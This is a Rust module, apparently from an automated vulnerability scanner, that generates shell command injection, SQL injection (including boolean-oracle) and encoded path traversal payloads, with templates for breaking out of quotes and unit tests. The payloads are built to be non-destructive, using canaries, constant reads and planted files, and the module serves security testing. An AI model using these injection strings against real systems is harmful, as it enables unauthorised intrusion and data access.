//! Texts that break out of a sink's context, and what to send for them.
//!
//! Each family is ordered by how often it works; a known [`Template`] moves the fitting ones to the front
//! and leaves the others in place, since a template may be wrong. No payload destroys anything: shell payloads run
//! one fresh name, SQL payloads read a constant, paths lead to planted files.

use solvent_finding::{Part, Template};

/// Folder inside every target in which files are planted. No application has any business there, so a file
/// reached there was reached by leaving every folder of the application.
pub(crate) const PLANTED: &str = "/planted";

/// A text for the sink with placeholders, its innocent twin, and for bit oracles its negation.
#[derive(Clone, PartialEq, Eq, Debug)]
pub(crate) struct Payload {
    pub attack: String,
    pub twin: String,
    pub zero: Option<String>,
    /// For SQL: the part that must appear in the statement, spanning more than one token.
    pub core: Option<String>,
    /// For paths: what the planted file's name ends with.
    pub extension: String,
    pub directory: String,
}

impl Payload {
    pub fn new(attack: impl Into<String>) -> Self {
        Self {
            attack: attack.into(),
            twin: "{{token}}".into(),
            zero: None,
            core: None,
            extension: String::new(),
            directory: PLANTED.into(),
        }
    }
}

impl Payload {
    /// The benign text alone, for looking around.
    pub fn twin_only() -> Self {
        Self::new("{{token}}")
    }
}

/// Which quotes are open where the input stands.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub(crate) enum Quote {
    None,
    Single,
    Double,
}

/// Text before and after the input in a template, when known.
pub(crate) struct Around {
    pub before: Option<String>,
    pub after: Option<String>,
    /// For a list of arguments, which element the input is in.
    pub element: usize,
    pub elements: usize,
}

/// Literal text directly around the first input part. Unknown parts end the knowledge.
pub(crate) fn around(template: &Template) -> Around {
    let mut around = Around {
        before: None,
        after: None,
        element: 0,
        elements: 1,
    };
    let mut groups: Vec<Vec<&Part>> = vec![Vec::new()];
    for part in &template.parts {
        if *part == Part::Literal("\0".into()) {
            groups.push(Vec::new());
        } else if let Some(last) = groups.last_mut() {
            last.push(part);
        }
    }
    around.elements = groups.len();
    for (index, group) in groups.iter().enumerate() {
        let Some(at) = group.iter().position(|part| **part == Part::Input) else {
            continue;
        };
        around.element = index;
        let text = |parts: &[&Part]| -> String {
            parts
                .iter()
                .map(|part| match part {
                    Part::Literal(text) => text.as_str(),
                    Part::Input | Part::Other => "x",
                })
                .collect()
        };
        around.before = Some(text(&group[..at]));
        around.after = Some(text(&group[at + 1..]));
        break;
    }
    around
}

/// The quote left open by `text`, by shell and SQL rules alike (no escapes: a template's literals are the
/// program's own).
pub(crate) fn open_quote(text: &str) -> Quote {
    let mut open = Quote::None;
    for c in text.chars() {
        open = match (open, c) {
            (Quote::None, '\'') => Quote::Single,
            (Quote::None, '"') => Quote::Double,
            (Quote::Single, '\'') | (Quote::Double, '"') => Quote::None,
            (open, _) => open,
        };
    }
    open
}

/// Shell and program-name payloads.
pub(crate) fn command(template: &Template) -> Vec<Payload> {
    // Bare and double-quoted contexts expand the first part; the second runs after leaving single quotes.
    let every = "{{token}}$({{canary}})'$({{canary}})'";
    let known = around(template);
    let mut texts: Vec<String> = Vec::new();
    if let Some(before) = &known.before {
        match open_quote(before) {
            _ if before.trim().is_empty() && known.element == 0 => {
                texts.push("{{canary}}".into());
                texts.push(every.into());
            }
            Quote::Single => texts.push("{{token}}';{{canary}};'".into()),
            Quote::Double => texts.push("{{token}}\";{{canary}};\"".into()),
            Quote::None => texts.push("{{token}};{{canary}};".into()),
        }
    }
    texts.extend(
        [
            every,
            "{{token}};{{canary}};",
            "{{canary}}",
            "{{token}}\n{{canary}}\n",
            "{{token}}';{{canary}};'",
            "{{token}}\";{{canary}};\"",
            "{{token}}|{{canary}}",
            "{{token}}&{{canary}}&",
            "{{token}}||{{canary}}||",
            "`{{canary}}`",
            "{{token}}&&{{canary}}",
            "{{token}} {{canary}}",
            ";/slv/{{canary}};",
            "/slv/{{canary}}",
            "{{token}}'&&{{canary}}&&'",
        ]
        .map(str::to_owned),
    );
    dedup(texts).into_iter().map(Payload::new).collect()
}

fn dedup(texts: Vec<String>) -> Vec<String> {
    let mut seen = std::collections::BTreeSet::new();
    texts
        .into_iter()
        .filter(|text| seen.insert(text.clone()))
        .collect()
}

/// Where the input stands in an SQL statement.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub(crate) enum SqlContext {
    Single,
    Double,
    /// A number or an expression.
    Bare,
}

/// The scalar query that every SQL payload carries: it reads a constant, and names it by the fresh token.
const SCALAR: &str = "(SELECT {{number}} AS {{token}})";

/// SQL payloads. `seen` is the context that a sensor or the template showed.
pub(crate) fn sql(seen: Option<SqlContext>) -> Vec<Payload> {
    let make = |context: SqlContext| -> Vec<Payload> {
        let quoted = |quote: char| {
            let mut plain = Payload::new(format!("{{{{token}}}}{quote}||{SCALAR}||{quote}"));
            plain.core = Some(format!("||{SCALAR}||"));
            let mut condition = Payload::new(format!(
                "{{{{token}}}}{quote} OR {{{{number}}}}<>{SCALAR} OR {quote}"
            ));
            // Programs take white space off the ends, so none of it is part of what must arrive.
            condition.core = Some(format!("OR {{{{number}}}}<>{SCALAR} OR"));
            let mut comment = Payload::new(format!(
                "{{{{token}}}}{quote} OR {{{{number}}}}<>{SCALAR}-- "
            ));
            comment.core = Some(format!("OR {{{{number}}}}<>{SCALAR}--"));
            let mut escaped = Payload::new(format!(
                "{{{{token}}}}\\{quote} OR {{{{number}}}}<>{SCALAR}-- "
            ));
            escaped.core = comment.core.clone();
            vec![plain, condition, comment, escaped]
        };
        match context {
            SqlContext::Single => quoted('\''),
            SqlContext::Double => quoted('"'),
            SqlContext::Bare => {
                let mut number = Payload::new(format!("{{{{number}}}}-{SCALAR}"));
                number.core = Some(format!("-{SCALAR}"));
                number.twin = "{{number}}".into();
                let mut whole = Payload::new(SCALAR);
                whole.core = Some(SCALAR.into());
                whole.twin = "{{number}}".into();
                vec![number, whole]
            }
        }
    };
    let mut order = vec![SqlContext::Single, SqlContext::Bare, SqlContext::Double];
    if let Some(seen) = seen {
        order.sort_by_key(|context| *context != seen);
    }
    let mut all: Vec<Payload> = Vec::new();
    // The first of each context before the second of any.
    let lists: Vec<Vec<Payload>> = order.into_iter().map(make).collect();
    if seen.is_some() {
        all.extend(lists.into_iter().flatten());
        return all;
    }
    for at in 0..4 {
        all.extend(lists.iter().filter_map(|list| list.get(at).cloned()));
    }
    all
}

/// SQL payloads whose truth decides the answer, for targets without an SQL sensor.
pub(crate) fn sql_bits(seen: Option<SqlContext>) -> Vec<Payload> {
    // Same length, same shape: only an evaluator of SQL tells them apart. `n` and `m` differ by construction.
    let pair = |before: &str, after: &str, glue: &str| {
        let condition = |left: &str, right: &str| {
            format!(
                "{before}{glue}(CASE WHEN substr('{{{{{left}}}}}',1,4)='{{{{{right}}}}}' THEN 1 ELSE 0 END)=1{after}"
            )
        };
        let mut payload = Payload::new(condition("number", "number"));
        payload.zero = Some(condition("number", "other_number"));
        payload
    };
    let mut all = vec![
        (
            SqlContext::Single,
            pair("{{token}}'", " AND '1'='1", " OR "),
        ),
        (SqlContext::Single, pair("{{token}}'", "-- ", " OR ")),
        (SqlContext::Bare, pair("1", "", " AND ")),
        (SqlContext::Bare, pair("1", "", " OR ")),
        (
            SqlContext::Double,
            pair("{{token}}\"", " AND \"1\"=\"1", " OR "),
        ),
        (
            SqlContext::Single,
            pair("{{token}}')", " AND ('1'='1", " OR "),
        ),
    ];
    if let Some(seen) = seen {
        all.sort_by_key(|(context, _)| *context != seen);
    }
    all.into_iter().map(|(_, payload)| payload).collect()
}

/// Paths to a planted file. `suffix` is what the program appends, when known.
pub(crate) fn path(template: &Template, prefixes: &[String], suffixes: &[String]) -> Vec<Payload> {
    const UP: &str = "../../../../../../../../../../";
    let known = around(template);
    let mut extensions: Vec<String> = Vec::new();
    // Text after the input is part of the file's name unless it leads into a folder.
    let appended = known
        .after
        .clone()
        .filter(|after| !after.contains('/') && !after.is_empty());
    extensions.push(appended.clone().unwrap_or_default());
    let mut all = Vec::new();
    let mut add = |text: String, extension: &str| {
        let mut payload = Payload::new(text);
        payload.extension = extension.to_owned();
        all.push(payload);
    };
    let first = extensions[0].clone();
    // What the program appends is not sent; what it asks for at the end is.
    let own = |extension: &str| {
        if appended.is_some() {
            String::new()
        } else {
            extension.to_owned()
        }
    };
    for prefix in prefixes {
        let slash = if prefix.ends_with('/') { "" } else { "/" };
        add(
            format!("{prefix}{slash}{UP}planted/{{{{file}}}}{}", own(&first)),
            &first,
        );
    }
    for suffix in suffixes {
        let extension = format!("{suffix}{first}");
        add(format!("{UP}planted/{{{{file}}}}{suffix}"), &extension);
        add(format!("/planted/{{{{file}}}}{suffix}"), &extension);
    }
    let root_first = known.before.as_ref().is_some_and(String::is_empty);
    let plain = [
        format!("{UP}planted/{{{{file}}}}"),
        "/planted/{{file}}".to_owned(),
    ];
    let order = if root_first { [1, 0] } else { [0, 1] };
    for at in order {
        add(format!("{}{}", plain[at], own(&first)), &first);
    }
    let more = [
        UP.replace("../", "....//") + "planted/{{file}}",
        UP.replace("../", "..%2f") + "planted%2f{{file}}",
        UP.replace("../", "%2e%2e%2f") + "planted%2f{{file}}",
        UP.replace("../", "%252e%252e%252f") + "planted%252f{{file}}",
        UP.replace("../", "..\\") + "planted\\{{file}}",
        format!("x/{UP}planted/{{{{file}}}}"),
        format!("./{UP}planted/{{{{file}}}}"),
        "file:///planted/{{file}}".to_owned(),
    ];
    for text in more {
        add(format!("{text}{}", own(&first)), &first);
    }
    if appended.is_none() {
        for extension in [".txt", ".html"] {
            add(format!("{UP}planted/{{{{file}}}}{extension}"), extension);
            add(format!("{UP}planted/{{{{file}}}}"), extension);
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn template(parts: &[&str]) -> Template {
        Template {
            parts: parts
                .iter()
                .map(|part| match *part {
                    "<input>" => Part::Input,
                    "<other>" => Part::Other,
                    text => Part::Literal(text.to_owned()),
                })
                .collect(),
        }
    }

    #[test]
    fn the_open_quote_decides_the_first_shell_payload() {
        let first = |parts: &[&str]| command(&template(parts))[0].attack.clone();
        assert_eq!(
            first(&["grep '", "<input>", "' file"]),
            "{{token}}';{{canary}};'"
        );
        assert_eq!(
            first(&["grep \"", "<input>", "\""]),
            "{{token}}\";{{canary}};\""
        );
        assert_eq!(first(&["ping ", "<input>"]), "{{token}};{{canary}};");
        assert_eq!(first(&["<input>"]), "{{canary}}");
        assert_eq!(
            first(&["sh", "\0", "-c", "\0", "echo ", "<input>"]),
            "{{token}};{{canary}};"
        );
    }

    #[test]
    fn a_suffix_that_the_program_appends_is_planted_and_not_sent() {
        let all = path(&template(&["base/", "<input>", ".txt"]), &[], &[]);
        assert_eq!(all[0].extension, ".txt");
        assert!(all[0].attack.ends_with("{{file}}"));
    }

    #[test]
    fn a_wanted_end_is_sent_and_planted() {
        let all = path(&template(&[]), &[], &[".csv".into()]);
        assert!(all[0].attack.ends_with("{{file}}.csv") && all[0].extension == ".csv");
    }

    #[test]
    fn the_seen_context_comes_first_and_the_others_stay() {
        let all = sql(Some(SqlContext::Bare));
        assert!(all[0].attack.starts_with("{{number}}-"));
        assert_eq!(all.len(), sql(None).len());
    }

    #[test]
    fn a_true_and_a_false_condition_have_the_same_length() {
        for payload in sql_bits(None) {
            let zero = payload
                .zero
                .expect("a negation")
                .replace("other_number", "number");
            assert_eq!(zero.len(), payload.attack.len());
        }
    }
}
